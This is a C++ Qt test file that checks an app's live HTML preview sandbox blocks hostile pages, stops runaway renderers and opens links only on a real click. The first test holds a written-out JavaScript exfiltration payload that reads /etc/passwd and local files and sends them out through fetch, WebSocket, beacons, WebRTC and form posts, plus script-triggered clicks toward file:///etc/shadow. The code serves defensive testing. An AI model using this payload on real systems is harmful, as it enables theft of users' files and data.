// The live preview shows someone else's page and never obeys it: with the
// real engine, a hostile page reaches no file and no server, opens no link
// by itself, and a page that runs away is ended.
#include <QBuffer>
#include <QElapsedTimer>
#include <QImage>
#include <QLabel>
#include <QPushButton>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <gtest/gtest.h>

#include "tests/mock/PreviewScript.h"
#include "ui/PreviewPane.h"

using namespace velmora;

namespace {

// Records every connection made to it; answers each request with `reply`.
class Listener : public QTcpServer {
public:
  explicit Listener(QByteArray reply = {}) : reply_(std::move(reply)) {
    listen(QHostAddress::LocalHost);
    connect(this, &QTcpServer::newConnection, this, [this] {
      while (QTcpSocket* socket = nextPendingConnection()) {
        ++connections;
        connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
          received += socket->readAll();
          if (!reply_.isEmpty() && received.contains("\r\n\r\n")) socket->write(reply_);
          socket->disconnectFromHost();
        });
      }
    });
  }
  QString Address() const { return QStringLiteral("127.0.0.1:%1").arg(serverPort()); }

  int connections = 0;
  QByteArray received;

private:
  QByteArray reply_;
};

QByteArray Png() {
  QImage image(4, 3, QImage::Format_RGB32);
  image.fill(Qt::red);
  QByteArray bytes;
  QBuffer buffer(&bytes);
  buffer.open(QIODevice::WriteOnly);
  image.save(&buffer, "PNG");
  return bytes;
}

class PreviewSandbox : public ::testing::Test {
protected:
  void SetUp() override {
    if (!PreviewPane::Available()) GTEST_SKIP() << "this build has no browser engine";
    pane = std::make_unique<PreviewPane>([this] { return source; }, [this](const QString& url) { opened << url; });
    pane->resize(600, 500);
    pane->SetPageWidth(PreviewPane::kPhoneWidth);  // drawn at its own size: page pixels are view pixels
    loaded = std::make_unique<QSignalSpy>(pane.get(), &PreviewPane::PageLoaded);
    stopped = std::make_unique<QSignalSpy>(pane.get(), &PreviewPane::PageStopped);
  }

  void Show(const QString& page) {
    source.text = page.toStdString();
    loaded->clear();
    if (pane->isVisible()) {
      pane->RefreshNow();
    } else {
      pane->show();
    }
    ASSERT_TRUE(loaded->wait(20000) || !loaded->isEmpty()) << "the page never showed";
  }

  QString Run(const QString& script) { return test::RunInPreview(pane.get(), script); }

  QWidget* Input() {
    auto* view = pane->findChild<QWidget*>(QStringLiteral("webPreview"));
    return view && view->focusProxy() ? view->focusProxy() : view;
  }

  // A real click, as the user's, in the middle of the element `id`.
  void Click(const QString& id) {
    const QStringList at =
        Run(QStringLiteral("(function(r){return (r.left+r.width/2)+','+(r.top+r.height/2)})"
                           "(document.getElementById('%1').getBoundingClientRect())")
            .arg(id))
            .split(QLatin1Char(','));
    ASSERT_EQ(at.size(), 2) << id.toStdString();
    const double zoom = pane->findChild<QWidget*>(QStringLiteral("webPreview"))->property("zoomFactor").toDouble();
    QTest::mouseClick(Input(), Qt::LeftButton, {},
                      QPoint(qRound(at[0].toDouble() * zoom), qRound(at[1].toDouble() * zoom)));
  }

  PreviewPane::Source source;
  QStringList opened;
  std::unique_ptr<PreviewPane> pane;
  std::unique_ptr<QSignalSpy> loaded;
  std::unique_ptr<QSignalSpy> stopped;
};

}  // namespace

// What the hostile project of the report did, and every other way out, with
// and without a script; pictures from the web and from the banners' files
// show.
TEST_F(PreviewSandbox, HostilePageReachesNoFileAndNoServerButShowsPictures) {
  Listener thief;
  const QByteArray png = Png();
  Listener pictures("HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: " +
                    QByteArray::number(png.size()) + "\r\nConnection: close\r\n\r\n" + png);
  QTemporaryDir folder;
  QFile banner(folder.filePath(QStringLiteral("banner.png")));
  ASSERT_TRUE(banner.open(QIODevice::WriteOnly) && banner.write(png) == png.size());
  banner.close();
  QFile secret(folder.filePath(QStringLiteral("secret.png")));  // a picture no banner names
  ASSERT_TRUE(secret.open(QIODevice::WriteOnly) && secret.write(png) == png.size());
  secret.close();
  source.folder = folder.path();
  source.pictures = PreviewPane::LocalPictures(
      {"banner.png", "file://" + banner.fileName().toStdString(),
       "http://" + pictures.Address().toStdString() + "/b.png"},
      folder.path());
  ASSERT_EQ(source.pictures, QStringList({banner.fileName(), banner.fileName()}));

  const QString to = QStringLiteral("http://") + thief.Address();
  const QString steal = QStringLiteral(R"JS(
    var sent = function (data) {
      try { new WebSocket('ws://%1/ws').onopen = function () { this.send(data); }; } catch (e) {}
      try { fetch('%2/fetch', {method: 'POST', body: data, mode: 'no-cors'}).catch(function () {}); } catch (e) {}
      try { var x = new XMLHttpRequest(); x.open('POST', '%2/xhr'); x.send(data); } catch (e) {}
      try { navigator.sendBeacon('%2/beacon', data); } catch (e) {}
      try { new EventSource('%2/events'); } catch (e) {}
      try { navigator.serviceWorker.register('%2/sw.js').catch(function () {}); } catch (e) {}
      try { new Worker('%2/worker.js'); } catch (e) {}
      [window, document.body.appendChild(document.createElement('iframe')).contentWindow].forEach(function (w) {
        try {
          var rtc = new w.RTCPeerConnection(
              {iceServers: [{urls: 'turn:%1?transport=tcp', username: 'u', credential: data.slice(0, 99)}]});
          rtc.createDataChannel('d');
          rtc.createOffer().then(function (o) { return rtc.setLocalDescription(o); }).catch(function () {});
        } catch (e) {}
      });
      var f = document.createElement('form');
      f.method = 'post'; f.action = '%2/form';
      var i = document.createElement('input'); i.name = 'd'; i.value = data; f.appendChild(i);
      document.body.appendChild(f);
      try { f.submit(); } catch (e) {}
    };
    ['file:///etc/passwd', 'file:///', '%3'].forEach(function (file) {
      fetch(file).then(function (r) { return r.text(); }).then(sent, function () {});
      try { var x = new XMLHttpRequest(); x.open('GET', file, false); x.send(); sent(x.responseText); } catch (e) {}
    });
    sent('hello');
    document.body.dataset.ran = 'yes';
  )JS")
                            .arg(thief.Address(), to, QUrl::fromLocalFile(secret.fileName()).toString());
  Show(QStringLiteral("<!DOCTYPE html><html><head>"
                      "<link rel=prefetch href='%1/prefetch'><link rel=preload as=fetch href='%1/preload'>"
                      "<link rel=stylesheet href='%1/style.css'><script src='%1/script.js'></script></head><body>"
                      "<style>@import url(%1/import.css);"
                      "@font-face{font-family:f;src:url(%1/font)}p{font-family:f}</style>"
                      "Grow more food<img src=x style=display:none onerror=\"%2\">"
                      "<iframe src='%1/frame'></iframe><iframe srcdoc=\"<script>fetch('%1/srcdoc')</script>\"></iframe>"
                      "<video src='%1/video'></video><object data='%1/object'></object>"
                      "<img id=web src='http://%3/b.png'><img id=relative src='banner.png'>"
                      "<img id=local src='%4'><img id=secret src='%5'><img id=passwd src='file:///etc/passwd'>"
                      "</body></html>")
           .arg(to, steal.toHtmlEscaped(), pictures.Address(), QUrl::fromLocalFile(banner.fileName()).toString(),
                QUrl::fromLocalFile(secret.fileName()).toString()));

  const QString widths = QStringLiteral(
      "['web','relative','local','secret','passwd'].map(function(id){"
      "return document.getElementById(id).naturalWidth}).join()");
  EXPECT_TRUE(QTest::qWaitFor([&] { return Run(widths) == "4,4,4,0,0"; }, 5000))
      << "pictures from the web and the banners' files show, no other file: " << Run(widths).toStdString();
  QTest::qWait(1500);  // time for anything still on its way
  QByteArrayList requests;
  for (const QByteArray& line : thief.received.split('\n'))
    if (line.startsWith("GET") || line.startsWith("POST")) requests << line;
  EXPECT_EQ(Run(QStringLiteral("document.body.dataset.ran || 'no'")), "no") << "the page's own scripts do not run";
  EXPECT_EQ(thief.connections, 0) << requests.join(' ').toStdString()
                                  << thief.received.toPercentEncoding().left(300).toStdString();
  EXPECT_TRUE(pictures.received.startsWith("GET /b.png")) << pictures.received.left(200).toStdString();
}

// Only the user's own click opens a link, and only one on the web or for mail.
TEST_F(PreviewSandbox, OnlyARealClickOpensWebAndMailLinks) {
  Show(QStringLiteral(
      "<!DOCTYPE html><html><body style='margin:0;font-size:20px'>"
      "<p><a id=web href='http://example.com/web'>web</a></p><p><a id=mail href='mailto:a@example.com'>mail</a></p>"
      "<p><a id=tab target=_blank href='https://example.com/tab'>tab</a></p>"
      "<p><a id=file href='file:///etc/shadow'>file</a></p><p><a id=desktop href='/tmp/x.desktop'>desktop</a></p>"
      "<p><a id=js href='javascript:location.href=\"https://example.com/js\"'>js</a></p>"
      "<p><button id=button>button</button></p><script>"
      "setTimeout(function(){document.getElementById('web').click();location.href='https://example.com/location';"
      "window.open('https://example.com/open');},0);"
      "document.getElementById('button').onclick=function(){location.href='https://example.com/button'};"
      "document.getElementById('file').onclick=function(){setTimeout(function(){"
      "document.getElementById('web').click()},1500)};"
      "</script></body></html>"));
  QTest::qWait(1500);
  EXPECT_TRUE(opened.isEmpty()) << opened.join(QLatin1Char(' ')).toStdString();

  for (const char* id : {"web", "mail", "tab", "file", "desktop", "js", "button"}) {
    Click(QString::fromLatin1(id));
    QTest::qWait(300);
  }
  QTest::qWait(2000);  // the delayed click from the file link's handler has come and gone
  EXPECT_EQ(opened, QStringList({"http://example.com/web", "mailto:a@example.com", "https://example.com/tab"}));
}

// A renderer that stops answering is ended within seconds, the pane says so
// and offers a reload, and the next page shows.
TEST_F(PreviewSandbox, RunawayPageIsStoppedAndTheNextPageShows) {
  Show(QStringLiteral("<p id=first>first</p>"));
  QElapsedTimer clock;
  clock.start();
  // The page's scripts do not run: the loop stands for whatever keeps a renderer busy.
  pane->RunScript(QStringLiteral("while(1){}"), [](const QVariant&) {});
  ASSERT_TRUE(stopped->wait(15000));
  std::printf("runaway page stopped after %lld ms\n", static_cast<long long>(clock.elapsed()));
  auto* why = pane->findChild<QLabel*>(QStringLiteral("lblPreviewStopped"));
  auto* reload = pane->findChild<QPushButton*>(QStringLiteral("btnPreviewReload"));
  ASSERT_TRUE(why && reload);
  EXPECT_EQ(why->text(), "The preview was stopped because the page did not finish.");
  EXPECT_TRUE(reload->isVisible());

  source.text = "<p id=next>next</p>";
  loaded->clear();
  reload->click();
  ASSERT_TRUE(loaded->wait(20000));
  EXPECT_FALSE(reload->isVisible());
  EXPECT_EQ(Run(QStringLiteral("document.getElementById('next').textContent")), "next");

  // Stopped again, the next change shows without Reload; closed and opened
  // again, the pane shows what changed meanwhile.
  pane->RunScript(QStringLiteral("while(1){}"), [](const QVariant&) {});
  ASSERT_TRUE(stopped->wait(15000));
  source.text = "<p id=changed>changed</p>";
  loaded->clear();
  pane->ScheduleRefresh();
  ASSERT_TRUE(loaded->wait(20000));
  EXPECT_EQ(Run(QStringLiteral("document.getElementById('changed').textContent")), "changed");
  pane->hide();
  source.text = "<p id=again>again</p>";
  pane->ScheduleRefresh();
  loaded->clear();
  pane->show();
  ASSERT_TRUE(loaded->wait(20000));
  EXPECT_EQ(Run(QStringLiteral("document.getElementById('again').textContent")), "again");
}
